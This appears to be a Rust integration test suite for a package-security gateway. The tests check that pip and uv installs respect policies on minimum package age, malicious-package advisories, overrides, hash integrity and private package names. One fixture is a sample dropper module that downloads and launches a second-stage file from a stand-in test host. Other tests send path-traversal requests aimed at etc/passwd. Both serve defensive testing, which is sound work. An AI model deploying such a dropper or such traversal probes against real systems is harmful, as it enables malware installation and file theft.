//! The real Python clients (pip and uv) install through a running gateway
//! from a local fake upstream: the policy shows in what they install and
//! in what they print.

mod support;

use std::path::Path;

use support::{Output, PyUpstream, RunningGate, hours_ago, pip_install, run, wheel};

fn config(state: &Path, upstreams: &[String], extra: &str) -> String {
    let list: Vec<String> = upstreams.iter().map(|u| format!("{u:?}")).collect();
    format!(
        "state_dir = {:?}\n[pypi]\nupstreams = [{}]\n[advisories]\nstore_dir = {:?}\n[cache]\nmetadata_ttl = \"0s\"\n[policy]\nmin_age = \"48h\"\n{extra}\n",
        state.join("state"),
        list.join(", "),
        state.join("no-imports"),
    )
}

async fn pip(gate: &RunningGate, target: &Path, spec: &str) -> Output {
    pip_install(&gate.pypi_index(), target, spec, &[]).await
}

async fn uv(gate: &RunningGate, target: &Path, spec: &str) -> Output {
    let index = gate.pypi_index();
    let target = target.to_str().unwrap().to_owned();
    run(
        "uv",
        &[
            "pip",
            "install",
            "--no-cache",
            "--no-config",
            "--python",
            "python3",
            "--target",
            &target,
            "--index-url",
            &index,
            spec,
        ],
        Path::new("/"),
    )
    .await
}

fn installed_version(target: &Path, module: &str) -> Option<String> {
    let text = std::fs::read_to_string(target.join(module).join("__init__.py")).ok()?;
    Some(text.split('"').nth(1)?.to_owned())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pip_and_uv_install_through_the_gateway_under_its_policy() {
    let dir = tempfile::tempdir().unwrap();
    let upstream = PyUpstream::start(vec![
        wheel("demo", "1.0", Some(&hours_ago(24 * 30))),
        wheel("demo", "2.0", Some(&hours_ago(1))),
        wheel("litellm", "1.82.6", Some(&hours_ago(24 * 200))),
        wheel("litellm", "1.82.8", Some(&hours_ago(24 * 100))),
    ])
    .await;
    let gate = RunningGate::start(
        dir.path(),
        &config(dir.path(), &[upstream.simple_url()], ""),
    )
    .await;

    // A normal install takes the newest version old enough.
    let t = dir.path().join("t1");
    let out = pip(&gate, &t, "demo").await;
    assert!(out.ok, "{}", out.text);
    assert_eq!(
        installed_version(&t, "demo").as_deref(),
        Some("1.0"),
        "{}",
        out.text
    );

    // Pinning the young version fails, and pip prints the gateway's reason.
    let t = dir.path().join("t2");
    let out = pip(&gate, &t, "demo==2.0").await;
    assert!(!out.ok, "{}", out.text);
    assert!(out.text.contains("shieldwall"), "{}", out.text);
    assert!(
        out.text.contains("held until it is 48h old"),
        "{}",
        out.text
    );
    assert!(installed_version(&t, "demo").is_none());

    // uv picks the old version too, and refuses the pinned young one.
    let t = dir.path().join("t3");
    let out = uv(&gate, &t, "demo").await;
    assert!(out.ok, "{}", out.text);
    assert_eq!(
        installed_version(&t, "demo").as_deref(),
        Some("1.0"),
        "{}",
        out.text
    );
    let t = dir.path().join("t4");
    let out = uv(&gate, &t, "demo==2.0").await;
    assert!(!out.ok, "{}", out.text);
    assert!(out.text.contains("shieldwall"), "{}", out.text);

    // A version in the advisory database is refused, however old.
    let t = dir.path().join("t5");
    let out = pip(&gate, &t, "litellm==1.82.8").await;
    assert!(!out.ok, "{}", out.text);
    assert!(out.text.contains("malicious"), "{}", out.text);
    let out = pip(&gate, &t, "litellm").await;
    assert!(out.ok, "{}", out.text);
    assert_eq!(installed_version(&t, "litellm").as_deref(), Some("1.82.6"));

    // An override that has expired lets nothing through; a live one does.
    let (status, body) = gate
        .add_override(serde_json::json!({
            "ecosystem": "pypi", "name": "demo", "version": "2.0", "reason": "hotfix for an outage",
            "requested_by": "alice", "duration": "1s"
        }))
        .await;
    assert_eq!(status, 201, "{body}");
    tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
    let t = dir.path().join("t6");
    let out = pip(&gate, &t, "demo==2.0").await;
    assert!(!out.ok, "an expired override must not apply: {}", out.text);
    let (status, body) = gate
        .add_override(serde_json::json!({
            "ecosystem": "pypi", "name": "demo", "version": "2.0", "reason": "hotfix for an outage",
            "requested_by": "alice", "duration": "1h"
        }))
        .await;
    assert_eq!(status, 201, "{body}");
    let out = pip(&gate, &t, "demo==2.0").await;
    assert!(out.ok, "{}", out.text);
    assert_eq!(installed_version(&t, "demo").as_deref(), Some("2.0"));

    // A malicious version cannot be overridden.
    let (status, body) = gate
        .add_override(serde_json::json!({
            "ecosystem": "pypi", "name": "litellm", "version": "1.82.8", "reason": "please",
            "requested_by": "mallory", "duration": "1h"
        }))
        .await;
    assert_eq!(status, 409, "{body}");

    // The record answers who installed what, with which hash.
    let rows = gate
        .gate
        .record
        .query(&shieldwall_gate::record::Query {
            name: Some("demo".to_owned()),
            kind: Some("download".to_owned()),
            ..Default::default()
        })
        .unwrap();
    assert!(
        rows.iter()
            .any(|r| r.version.as_deref() == Some("2.0") && r.rule == "override"),
        "{rows:?}"
    );
    assert!(
        rows.iter()
            .all(|r| r.sha256.as_deref().is_some_and(|h| h.len() == 64))
    );
    assert!(
        rows.iter().any(|r| r.user_agent.contains("pip")),
        "{rows:?}"
    );
    assert!(rows.iter().any(|r| r.user_agent.contains("uv")), "{rows:?}");
    let refused = gate.events("refused");
    assert!(
        refused
            .iter()
            .any(|r| r.name == "litellm" && r.rule == "advisory"),
        "{refused:?}"
    );
    assert!(
        refused
            .iter()
            .any(|r| r.name == "demo" && r.rule == "min-age"),
        "{refused:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cached_installs_survive_an_upstream_outage() {
    let dir = tempfile::tempdir().unwrap();
    let mut upstream =
        PyUpstream::start(vec![wheel("demo", "1.0", Some(&hours_ago(24 * 30)))]).await;
    let gate = RunningGate::start(
        dir.path(),
        &config(dir.path(), &[upstream.simple_url()], ""),
    )
    .await;
    let out = pip(&gate, &dir.path().join("a"), "demo").await;
    assert!(out.ok, "{}", out.text);
    upstream.stop().await;
    let out = pip(&gate, &dir.path().join("b"), "demo").await;
    assert!(
        out.ok,
        "with the upstream down, the cached install must still work: {}",
        out.text
    );
    assert_eq!(
        installed_version(&dir.path().join("b"), "demo").as_deref(),
        Some("1.0")
    );
    // An index page from the cache says so.
    let response = reqwest::get(format!("{}demo/", gate.pypi_index()))
        .await
        .unwrap();
    assert_eq!(
        response
            .headers()
            .get("x-shieldwall-stale")
            .map(|v| v.to_str().unwrap()),
        Some("true")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bytes_that_do_not_match_their_hash_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let mut tampered = wheel("demo", "1.0", Some(&hours_ago(24 * 30)));
    let honest = wheel("demo", "1.1", Some(&hours_ago(24 * 30)));
    // The upstream declares one hash and serves other bytes.
    tampered.bytes = honest.bytes.clone();
    let upstream = PyUpstream::start(vec![tampered]).await;
    let gate = RunningGate::start(
        dir.path(),
        &config(dir.path(), &[upstream.simple_url()], ""),
    )
    .await;
    let out = pip(&gate, &dir.path().join("a"), "demo").await;
    assert!(!out.ok, "{}", out.text);
    assert!(out.text.contains("502"), "{}", out.text);
    let refused = gate.events("refused");
    assert!(refused.iter().any(|r| r.rule == "integrity"), "{refused:?}");
    assert!(
        !gate
            .gate
            .blobs
            .contains(&wheel("demo", "1.1", None).declared_sha256)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_private_upstream_owns_its_names() {
    let dir = tempfile::tempdir().unwrap();
    let private =
        PyUpstream::start(vec![wheel("corp-lib", "1.0", Some(&hours_ago(24 * 30)))]).await;
    let public = PyUpstream::start(vec![
        wheel("corp-lib", "99.0", Some(&hours_ago(24 * 30))),
        wheel("demo", "1.0", Some(&hours_ago(24 * 30))),
    ])
    .await;
    let gate = RunningGate::start(
        dir.path(),
        &config(dir.path(), &[private.simple_url(), public.simple_url()], ""),
    )
    .await;
    let t = dir.path().join("a");
    let out = pip(&gate, &t, "corp-lib").await;
    assert!(out.ok, "{}", out.text);
    assert_eq!(
        installed_version(&t, "corp_lib").as_deref(),
        Some("1.0"),
        "{}",
        out.text
    );
    assert!(
        !public
            .requests
            .lock()
            .unwrap()
            .iter()
            .any(|p| p.contains("corp-lib")),
        "the public upstream must never be asked for a private name"
    );
    // Names the private upstream does not have still come from the public one.
    let out = pip(&gate, &t, "demo").await;
    assert!(out.ok, "{}", out.text);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn index_pages_keep_upstream_fields_and_negotiate_formats() {
    let dir = tempfile::tempdir().unwrap();
    let upstream = PyUpstream::start(vec![
        wheel("demo", "1.0", Some(&hours_ago(24 * 30))),
        wheel("demo", "2.0", Some(&hours_ago(1))),
    ])
    .await;
    let gate = RunningGate::start(
        dir.path(),
        &config(dir.path(), &[upstream.simple_url()], ""),
    )
    .await;
    let client = reqwest::Client::new();
    let json = client
        .get(format!("{}DEMO/", gate.pypi_index()))
        .header("accept", "application/vnd.pypi.simple.v1+json")
        .send()
        .await
        .unwrap();
    // Non-normalized names redirect; reqwest follows to the normalized page.
    assert_eq!(json.url().path(), "/pypi/simple/demo/");
    assert_eq!(json.headers()["vary"], "Accept");
    assert_eq!(
        json.headers()["content-type"],
        "application/vnd.pypi.simple.v1+json"
    );
    let page: serde_json::Value = json.json().await.unwrap();
    let files = page["files"].as_array().unwrap();
    assert_eq!(files.len(), 2);
    let young = files
        .iter()
        .find(|f| f["filename"].as_str().unwrap().contains("2.0"))
        .unwrap();
    assert!(
        young["yanked"].as_str().unwrap().contains("held until"),
        "{young}"
    );
    let old = files
        .iter()
        .find(|f| f["filename"].as_str().unwrap().contains("1.0"))
        .unwrap();
    assert_eq!(old["yanked"], false);
    assert!(old["upload-time"].is_string());
    assert!(old["core-metadata"]["sha256"].is_string());
    assert!(
        old["url"]
            .as_str()
            .unwrap()
            .starts_with(&format!("http://{}/pypi/files/", gate.addr))
    );
    let html = client
        .get(format!("{}demo/", gate.pypi_index()))
        .header("accept", "text/html")
        .send()
        .await
        .unwrap();
    assert!(
        html.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/html")
    );
    let text = html.text().await.unwrap();
    assert!(text.contains("data-yanked=\"shieldwall:"), "{text}");
    assert!(text.contains("data-core-metadata=\"sha256="), "{text}");
    let none = client
        .get(format!("{}demo/", gate.pypi_index()))
        .header("accept", "application/xml")
        .send()
        .await
        .unwrap();
    assert_eq!(none.status(), 406);
    // Traversal in names and file paths goes nowhere.
    for path in [
        "/pypi/simple/..%2f..%2fetc/",
        "/pypi/files/..%2f..%2fetc%2fpasswd/x.whl",
        &format!("/pypi/files/{}/..%2fx.whl", "a".repeat(64)),
    ] {
        let r = client
            .get(format!("http://{}{path}", gate.addr))
            .send()
            .await
            .unwrap();
        assert!(
            r.status() == 404 || r.status() == 400,
            "{path}: {}",
            r.status()
        );
    }
}

/// An inert stand-in for a dropper: at import it downloads a file from a
/// reserved test domain and starts it detached.
const DROPPER: &str = r#"VERSION = "1.0"
import subprocess
import urllib.request

urllib.request.urlretrieve("https://payload.example.test/stage2", "/tmp/.stage2")
subprocess.Popen(["/tmp/.stage2"], start_new_session=True)
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_analyzer_verdict_denies_and_a_slow_analysis_holds() {
    let dir = tempfile::tempdir().unwrap();
    let upstream = PyUpstream::start(vec![
        support::wheel_with("dropper", "1.0", Some(&hours_ago(24 * 30)), DROPPER),
        wheel("demo", "1.0", Some(&hours_ago(24 * 30))),
    ])
    .await;
    let gate = RunningGate::start(
        dir.path(),
        &config(dir.path(), &[upstream.simple_url()], ""),
    )
    .await;
    let t = dir.path().join("a");
    let out = pip(&gate, &t, "dropper").await;
    assert!(!out.ok, "{}", out.text);
    assert!(
        out.text.contains("analyzer") && out.text.contains("block"),
        "{}",
        out.text
    );
    let out = pip(&gate, &t, "demo").await;
    assert!(out.ok, "{}", out.text);
    // Once judged, the file is also held back on the index page.
    let page: serde_json::Value = reqwest::Client::new()
        .get(format!("{}dropper/", gate.pypi_index()))
        .header("accept", "application/vnd.pypi.simple.v1+json")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert!(
        page["files"][0]["yanked"]
            .as_str()
            .unwrap()
            .contains("analyzer"),
        "{page}"
    );

    // With no time to wait, the first request is held as pending.
    let dir2 = tempfile::tempdir().unwrap();
    let gate2 = RunningGate::start(
        dir2.path(),
        &config(
            dir2.path(),
            &[upstream.simple_url()],
            "[policy.analysis]\nwait = \"0s\"",
        ),
    )
    .await;
    let out = pip(&gate2, &dir2.path().join("b"), "demo").await;
    assert!(!out.ok, "{}", out.text);
    assert!(out.text.contains("being analysed"), "{}", out.text);
    let start = std::time::Instant::now();
    loop {
        let out = pip(&gate2, &dir2.path().join("c"), "demo").await;
        if out.ok {
            break;
        }
        assert!(start.elapsed().as_secs() < 30, "{}", out.text);
        tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn identities_are_recorded_and_required_when_configured() {
    use sha2::Digest;
    let dir = tempfile::tempdir().unwrap();
    let upstream = PyUpstream::start(vec![wheel("demo", "1.0", Some(&hours_ago(24 * 30)))]).await;
    let hash = hex::encode(sha2::Sha256::digest(b"s3cret-token"));
    let gate = RunningGate::start(
        dir.path(),
        &config(
            dir.path(),
            &[upstream.simple_url()],
            &format!("[auth]\nrequired = true\ntokens = {{ ci-main = \"{hash}\" }}"),
        ),
    )
    .await;
    let out = pip(&gate, &dir.path().join("a"), "demo").await;
    assert!(!out.ok, "no token must be refused: {}", out.text);
    let index = format!("http://ci-main:s3cret-token@{}/pypi/simple/", gate.addr);
    let out = pip_install(&index, &dir.path().join("b"), "demo", &[]).await;
    assert!(out.ok, "{}", out.text);
    let rows = gate.events("download");
    assert_eq!(rows[0].identity.as_deref(), Some("ci-main"), "{rows:?}");
    assert!(
        !format!("{rows:?}").contains("s3cret-token"),
        "tokens are never recorded"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_newly_listed_version_stops_at_once_and_revokes_its_override() {
    let dir = tempfile::tempdir().unwrap();
    let upstream = PyUpstream::start(vec![
        wheel("demo", "1.0", Some(&hours_ago(24 * 30))),
        wheel("demo", "2.0", Some(&hours_ago(1))),
    ])
    .await;
    let gate = RunningGate::start(
        dir.path(),
        &config(dir.path(), &[upstream.simple_url()], ""),
    )
    .await;
    let out = pip(&gate, &dir.path().join("a"), "demo==1.0").await;
    assert!(out.ok, "{}", out.text);
    let (status, body) = gate
        .add_override(serde_json::json!({
            "ecosystem": "pypi", "name": "demo", "version": "2.0", "reason": "hotfix",
            "requested_by": "alice", "duration": "1h"
        }))
        .await;
    assert_eq!(status, 201, "{body}");
    // An advisory arrives while the gateway runs (`shieldwall db import`).
    let osv = dir.path().join("osv.json");
    std::fs::write(
        &osv,
        serde_json::json!({
            "id": "MAL-2026-0001", "modified": "2026-06-01T00:00:00Z", "summary": "malicious demo",
            "affected": [{"package": {"ecosystem": "PyPI", "name": "demo"}, "versions": ["1.0", "2.0"]}]
        })
        .to_string(),
    )
    .unwrap();
    shieldwall_advisory::import(&osv, &dir.path().join("no-imports")).unwrap();
    let start = std::time::Instant::now();
    while gate
        .gate
        .advisories()
        .affecting(shieldwall_core::Ecosystem::PyPI, "demo", "1.0")
        .is_empty()
    {
        assert!(
            start.elapsed().as_secs() < 20,
            "the advisories were not reloaded"
        );
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
    // The already-served file is refused now, and the override is revoked.
    let out = pip(&gate, &dir.path().join("b"), "demo==1.0").await;
    assert!(!out.ok, "{}", out.text);
    assert!(out.text.contains("MAL-2026-0001"), "{}", out.text);
    let overrides = gate.gate.overrides();
    assert!(
        overrides[0]
            .revoked_reason
            .as_deref()
            .unwrap_or("")
            .contains("MAL-2026-0001"),
        "{overrides:?}"
    );
    let out = pip(&gate, &dir.path().join("c"), "demo==2.0").await;
    assert!(!out.ok, "{}", out.text);
}
